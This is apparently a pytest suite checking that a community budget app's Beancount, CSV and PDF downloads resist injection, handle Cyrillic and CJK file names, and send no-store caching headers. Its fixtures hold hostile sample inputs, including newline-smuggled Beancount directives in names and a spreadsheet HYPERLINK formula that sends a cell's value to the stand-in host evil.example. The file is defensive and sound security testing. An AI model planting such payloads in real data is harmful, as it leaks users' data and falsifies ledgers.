"""Downloads under attack (issue 9, items 4–6 and 12's Cache-Control; SPEC §5 "Downloads").

Each test is the attack an outsider tried:

- a name, category or comment with a newline and Beancount syntax in it (``open
  Assets:Hacked``, a fake transaction) must not add a directive to the export, which must
  still pass ``bean-check``;
- a text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a formula
  in a spreadsheet: every CSV download writes it with a leading ``'`` (amounts stay numbers);
- a Cyrillic, CJK or quoted name in a download's file name used to be a 500: every download
  answers 200 with an RFC 6266 ``filename*`` and an ASCII fallback, and the PDF shows the
  Cyrillic text;
- every answer to a logged-in request carries ``Cache-Control: no-store``.

Text that strict validation now refuses at the door (a newline in a name) can still be in the
database (older rows, imports, direct edits): those values are written straight into the
database here, so the export is tested against whatever it may find.
"""

import csv
import io
import re
import shutil
import subprocess
import sys
import zlib
from datetime import date
from pathlib import Path
from urllib.parse import unquote

import pytest
from sqlalchemy import select
from werkzeug.http import parse_options_header

from app.services.sheet_downloads import COLUMNS
from app.extensions import db
from app.models import BudgetItem, Community, Expense, JournalEntry, Member, Period, Posting
from tests.helpers import page_ok as ok
from tests.conftest import PASSWORD, Api, login, signup

# Short enough for the columns (a category holds 80 characters, a name 120).
OPEN_INJECTION = 'E "b" \\ ;\n2026-01-01 open Assets:Hacked\r\n\t\x0b'
TX_INJECTION = 'Evil\n2026-01-02 * "Fake"\n Assets:Hacked 1 X\n Assets:Fund -1 X'
INJECTION = OPEN_INJECTION + "\n" + TX_INJECTION
CJK_NAME = '山田 "Taro" \\ ;'
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def one_line(text: str) -> str:
    """What the export may keep of a text: every control character a space."""
    return re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]", " ", text)


class Ledger:
    """A community of Russian gardeners, built through the API, one period closed."""

    def __init__(self, client):
        data = ok(
            client.post(
                "/api/signup",
                json={
                    "community_name": "СНТ Ромашка",
                    "slug": "romashka",
                    "name": "Иван Петров",
                    "email": "ivan@example.org",
                    "password": PASSWORD,
                    "currency": "RUB",
                },
            ),
            201,
        ).get_json()
        self.client = client
        self.id = data["community"]["id"]
        self.slug = "romashka"
        self.admin = data["member"]["id"]
        self.api = Api(client, data["token"])
        self.cjk = self.post("/members", name=CJK_NAME, email="yamada@example.org", role="owner")["id"]
        self.formula = self.post("/members", name=FORMULA_NAME, email="f@example.org", role="owner")["id"]
        self.evil = self.post("/members", name="Placeholder member", email="evil@example.org", role="owner")[
            "id"
        ]
        self.members = [self.admin, self.cjk, self.formula, self.evil]
        for i, member in enumerate(self.members):
            self.post(
                "/properties", label=f"Участок {i + 1}", share_weight=str(i + 1), owner_member_id=member
            )
        self.q1 = self.post("/periods", name="Квартал 1", start_date="2026-01-01", end_date="2026-03-31")[
            "id"
        ]
        self.q2 = self.post("/periods", name='Q "2" 中文', start_date="2026-04-01", end_date="2026-06-30")[
            "id"
        ]
        for payment_type, strategy in (
            ("Охрана", "proportional"),
            ("警備", "fixed_fee"),
            ("@Вывоз мусора", "proportional"),
            ("Placeholder type", "proportional"),
        ):
            self.post(
                f"/periods/{self.q1}/budget-items",
                payment_type=payment_type,
                strategy=strategy,
                budgeted_cost="100.00",
            )
            self.post(
                f"/periods/{self.q1}/expenses",
                payment_type=payment_type,
                amount="99.99",
                date="2026-01-15",
                vendor="-ООО Вектор",
                description="Счёт №5\n=1+2",
                paid_by_member_id=self.cjk,
            )
        for member in self.members:
            self.post(
                f"/periods/{self.q1}/contributions",
                member_id=member,
                amount="12.34",
                date="2026-02-01",
                comment='=1+2\nнал. "cash"',
            )
        self.post(
            f"/periods/{self.q1}/charges",
            member_id=self.admin,
            amount="5.00",
            date="2026-02-02",
            description="+SUM(A1:A9)",
        )
        job = self.post(f"/periods/{self.q1}/close", status=202)
        assert ok(self.api.get(self.url(f"/jobs/{job['job_id']}"))).get_json()["status"] == "succeeded"

    def url(self, path=""):
        return f"/api/c/{self.slug}{path}"

    def page(self, path=""):
        return f"/c/{self.slug}{path}"

    def post(self, path, status=201, **json):
        response = self.api.post(self.url(path), json=json)
        assert response.status_code == status, response.get_json()
        return response.get_json()


@pytest.fixture
def ledger(client):
    return Ledger(client)


def poison(scoped, ledger):
    """Put the injection where validation would stop it today: a member's name, a category,
    the community's and the period's names, and the journal's accounts and memos."""
    with scoped(ledger.id):
        db.session.get(Member, ledger.evil).name = INJECTION
        db.session.get(Community, ledger.id).name = "СНТ Ромашка\n" + OPEN_INJECTION
        db.session.get(Period, ledger.q1).name = "Квартал 1\n" + OPEN_INJECTION
        for model, column in (
            (BudgetItem, "payment_type"),
            (Expense, "payment_type"),
            (Posting, "account"),
            (JournalEntry, "memo"),
        ):
            for row in db.session.execute(select(model)).scalars():
                value = getattr(row, column)
                if value and "Placeholder type" in value:
                    setattr(row, column, value.replace("Placeholder type", TX_INJECTION))
        db.session.commit()


# --- Beancount -----------------------------------------------------------------------------

beancount = pytest.importorskip("beancount")
from beancount import loader  # noqa: E402
from beancount.core import data  # noqa: E402


def bean_check(text, tmp_path):
    tool = Path(sys.executable).with_name("bean-check")
    tool = str(tool) if tool.exists() else shutil.which("bean-check")
    assert tool, "bean-check is installed with the test extras"
    ledger_file = tmp_path / "levy.beancount"
    ledger_file.write_text(text, encoding="utf-8")
    result = subprocess.run([tool, str(ledger_file)], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


def test_injected_names_add_no_directive_and_the_export_passes_bean_check(ledger, scoped, tmp_path):
    poison(scoped, ledger)
    response = ok(ledger.api.get(ledger.url("/export.beancount")))
    text = response.get_data(as_text=True)

    entries, errors, options = loader.load_string(text)
    assert not errors, "\n".join(str(e) for e in errors[:10])
    bean_check(text, tmp_path)
    assert "Assets:Hacked" not in {a for e in entries for a in _accounts(e)}

    opens = {e.account: e for e in entries if isinstance(e, data.Open)}
    evil = [a for a in opens if a.startswith("Expenses:Evil-")]
    assert len(evil) == 1
    evil_component = evil[0].split(":", 1)[1]
    members = {f"Liabilities:Members:M{m}" for m in ledger.members}
    assert set(opens) == members | {
        "Assets:Fund",
        "Income:ServiceCharges",
        "Expenses:Охрана",
        "Income:Allocated:Охрана",
        "Expenses:X-警備",
        "Income:Allocated:X-警備",
        "Expenses:Вывоз-мусора",
        "Income:Allocated:Вывоз-мусора",
        f"Expenses:{evil_component}",
        f"Income:Allocated:{evil_component}",
    }
    # Every name a user typed rides along, in one line, as metadata.
    assert opens[f"Liabilities:Members:M{ledger.evil}"].meta["name"] == one_line(INJECTION)
    assert opens[f"Liabilities:Members:M{ledger.cjk}"].meta["name"] == CJK_NAME
    assert opens[f"Liabilities:Members:M{ledger.admin}"].meta["name"] == "Иван Петров"
    assert opens[f"Expenses:{evil_component}"].meta["name"] == one_line(TX_INJECTION)
    assert opens["Expenses:X-警備"].meta["name"] == "警備"
    assert options["title"] == one_line("СНТ Ромашка\n" + OPEN_INJECTION)

    # Exactly the journal's entries: no fake transaction, no lost one.
    with scoped(ledger.id):
        posted = {e.id: one_line(e.memo) for e in db.session.execute(select(JournalEntry)).scalars()}
    transactions = [e for e in entries if isinstance(e, data.Transaction)]
    assert sorted(t.narration for t in transactions) == sorted(posted.values())
    assert not any("Fake" in (t.payee, t.narration) for t in transactions)
    assert all(a in opens for t in transactions for a in _accounts(t))

    # The closed period's balance assertions hold for every member (the loader checks them).
    assertions = [e for e in entries if isinstance(e, data.Balance)]
    assert {e.account for e in assertions} == members
    assert {e.date for e in assertions} == {date(2026, 4, 1)}
    assert sum(p.units.number for t in transactions for p in t.postings) == 0


def _accounts(entry):
    if isinstance(entry, data.Transaction):
        return [p.account for p in entry.postings]
    return [entry.account] if hasattr(entry, "account") else []


def test_category_names_that_only_differ_in_punctuation_stay_separate_accounts(client, tmp_path):
    """Two categories whose account names would coincide once cleaned keep apart."""
    led = signup(client, slug="dups", email="d@example.org")
    api = Api(client, led["token"])
    url = "/api/c/dups"
    period = api.post(
        f"{url}/periods", json={"name": "Q1", "start_date": "2026-01-01", "end_date": "2026-03-31"}
    ).get_json()["id"]
    for payment_type in ("Snow: removal", "Snow / removal", "!!!", "???"):
        ok(
            api.post(
                f"{url}/periods/{period}/expenses",
                json={"payment_type": payment_type, "amount": "1.00", "date": "2026-01-05"},
            ),
            201,
        )
    text = ok(api.get(f"{url}/export.beancount")).get_data(as_text=True)
    entries, errors, _ = loader.load_string(text)
    assert not errors, errors
    bean_check(text, tmp_path)
    expense_accounts = {
        e.account: e.meta["name"]
        for e in entries
        if isinstance(e, data.Open) and e.account.startswith("Expenses:")
    }
    assert sorted(expense_accounts.values()) == sorted(["Snow: removal", "Snow / removal", "!!!", "???"])
    assert len(expense_accounts) == 4


# --- CSV formula injection -------------------------------------------------------------------


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def assert_no_formula(table: list[list[str]], number_columns: set[int]):
    for row in table[1:]:
        for i, cell in enumerate(row):
            if i in number_columns:
                assert cell == "" or re.fullmatch(r"-?\d+(\.\d+)?", cell), (i, cell)
            else:
                assert not cell.startswith(FORMULA_STARTS), (i, cell)


@pytest.fixture
def browser(ledger):
    login(ledger.client, "ivan@example.org")
    return ledger.client


def test_balance_sheet_csvs_quote_formulas_and_keep_amounts_plain(ledger, browser):
    api = ledger.api.get(ledger.url(f"/periods/{ledger.q1}/balance-sheet?format=csv"))
    pages = [
        browser.get(ledger.page(f"/periods/{ledger.q1}/sheet.csv")),
        browser.get(ledger.page(f"/me/periods/{ledger.q1}/balance-sheet.csv")),
    ]
    sheet = ok(ledger.api.get(ledger.url(f"/periods/{ledger.q1}/balance-sheet"))).get_json()
    names = {row["member_id"]: row["name"] for row in sheet["rows"]}
    # The API's CSV keeps its keys and member ids; a page's is headed in words, by name.
    for response, keyed in [(api, True)] + [(page, False) for page in pages]:
        table = rows(ok(response))
        first = 2 if keyed else 1
        assert table[0][:first] == (["member_id", "name"] if keyed else ["Member"])
        assert len(table[0]) == first + len(COLUMNS)
        assert_no_formula(table, set(range(first, len(table[0]))))
        by_name = {row[first - 1]: row for row in table[1:]}
        assert "'" + FORMULA_NAME in by_name and CJK_NAME in by_name
        # Amounts are the sheet's, as plain numbers with dot decimals, negatives included.
        for row in sheet["rows"]:
            name = names[row["member_id"]]
            shown = "'" + name if name.startswith(FORMULA_STARTS) else name
            assert by_name[shown][first:] == [row[c] for c in COLUMNS]
        assert any(row[-1].startswith("-") for row in table[1:])
        assert table[-1] == ([""] if keyed else []) + ["Total", *(sheet["totals"][c] for c in COLUMNS)]


def test_the_statement_csv_quotes_formulas_and_keeps_amounts_plain(ledger, browser):
    table = rows(ok(browser.get(ledger.page(f"/me/periods/{ledger.q1}/statement.csv"))))
    header = table[0]
    amounts = {header.index(c) for c in ("basis", "basis total", "unit rate", "total", "rounding", "amount")}
    assert_no_formula(table, amounts)
    descriptions = [row[header.index("description")] for row in table[1:]]
    assert '\'=1+2\nнал. "cash"' in descriptions
    assert "'+SUM(A1:A9)" in descriptions
    assert any(row[header.index("amount")] == "-5.00" for row in table[1:])  # the charge


def test_a_member_who_paid_sees_a_quoted_category_in_the_statement(ledger, browser):
    """The CJK member paid the expenses: their lines start with the '@…' category, quoted."""
    table = rows(
        ok(browser.get(ledger.page(f"/me/periods/{ledger.q1}/statement.csv?member_id={ledger.cjk}")))
    )
    text_cells = [cell for row in table[1:] for cell in row[:5]]
    assert any(cell.startswith("'@Вывоз мусора") for cell in text_cells)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in text_cells)


# --- file names (RFC 6266) and the PDF in Cyrillic ---------------------------------------------


def downloads(ledger, period):
    name = {ledger.q1: "Квартал_1", ledger.q2: "Q_2_中文"}[period]
    return [
        (
            "api",
            f"/api/c/romashka/periods/{period}/balance-sheet?format=csv",
            f"romashka-{name}-balance-sheet.csv",
        ),
        ("page", f"/c/romashka/periods/{period}/sheet.csv", f"romashka-{name}-balance-sheet.csv"),
        ("page", f"/c/romashka/me/periods/{period}/balance-sheet.csv", f"romashka-{name}-balance-sheet.csv"),
        (
            "page",
            f"/c/romashka/me/periods/{period}/statement.csv",
            f"romashka-{name}-Иван_Петров-statement.csv",
        ),
        (
            "page",
            f"/c/romashka/me/periods/{period}/statement.pdf",
            f"romashka-{name}-Иван_Петров-statement.pdf",
        ),
        ("api", "/api/c/romashka/export.beancount", "romashka.beancount"),
    ]


@pytest.mark.parametrize("which", ["q1", "q2"])
def test_every_download_names_its_file_in_any_script(ledger, browser, which):
    """Closed Q1 "Квартал 1" and open Q2 'Q "2" 中文', the admin "Иван Петров": every
    download answers 200 with a header that is plain ASCII and names the file in UTF-8."""
    # Everyone may see the sheet, so the owner's balance-sheet download is open to the admin.
    ok(ledger.api.patch(ledger.url("/settings"), json={"owners_see_balance_sheet": True}))
    for kind, path, expected in downloads(ledger, getattr(ledger, which)):
        response = ledger.api.get(path) if kind == "api" else browser.get(path)
        ok(response)
        header = response.headers["Content-Disposition"]
        header.encode("ascii")  # no raw non-ASCII text in a header
        assert header.startswith("attachment;")
        fallback = re.search(r'filename="([^"\\]*)"', header).group(1)
        assert fallback.isascii() and fallback.endswith(expected.rsplit(".", 1)[1])
        utf8 = re.search(r"filename\*=UTF-8''([^;\s]+)", header).group(1)
        assert unquote(utf8, errors="strict") == expected
        # As a client reads it: filename* wins over the fallback.
        assert parse_options_header(header) == ("attachment", {"filename": expected})


def test_an_ascii_name_keeps_its_plain_file_name(community, owner):
    response = ok(community.api.get(community.url("/export.beancount")))
    assert 'filename="maple.beancount"' in response.headers["Content-Disposition"]


def _pdf_text_maps(pdf: bytes) -> str:
    """Every stream of the PDF, inflated: the font's ToUnicode map is among them."""
    out = []
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S):
        try:
            out.append(zlib.decompress(match.group(1)).decode("latin-1"))
        except zlib.error:
            out.append(match.group(1).decode("latin-1"))
    return "\n".join(out)


def test_the_pdf_statement_renders_cyrillic_with_an_embedded_unicode_font(ledger, browser):
    pdf = ok(browser.get(ledger.page(f"/me/periods/{ledger.q1}/statement.pdf"))).data
    assert pdf.startswith(b"%PDF")
    assert b"/FontFile2" in pdf  # an embedded TrueType font, not Helvetica
    maps = _pdf_text_maps(pdf).upper()
    for char in "ИванПетровКварталСНТРомашка":
        assert f"{ord(char):04X}" in maps, char


def test_the_pdf_font_ships_with_the_python_packages():
    """CI installs no system fonts for the PDF: the font comes from a pip package."""
    from app.web.owner.documents import packaged_font

    path = packaged_font()
    assert path and Path(path).is_file()


def test_a_cjk_name_in_the_pdf_is_not_a_server_error(ledger, browser):
    pdf = ok(browser.get(ledger.page(f"/me/periods/{ledger.q2}/statement.pdf?member_id={ledger.cjk}"))).data
    assert pdf.startswith(b"%PDF")


# --- Cache-Control ----------------------------------------------------------------------------


def test_every_logged_in_answer_is_no_store(ledger, browser):
    bearer = ledger.api
    answers = {
        "page": browser.get(ledger.page("/")),
        "page download": browser.get(ledger.page(f"/me/periods/{ledger.q1}/statement.pdf")),
        "api GET": bearer.get("/api/me"),
        "api download": bearer.get(ledger.url(f"/periods/{ledger.q1}/balance-sheet?format=csv")),
        "api 404": bearer.get(ledger.url("/periods/999999/balance-sheet")),
        "api write": bearer.post(
            ledger.url("/members"), json={"name": "Пётр", "email": "p@example.org", "role": "owner"}
        ),
        "session API GET": browser.get("/api/me"),
    }
    for what, response in answers.items():
        assert response.status_code < 500, what
        assert "no-store" in response.headers.get("Cache-Control", ""), what
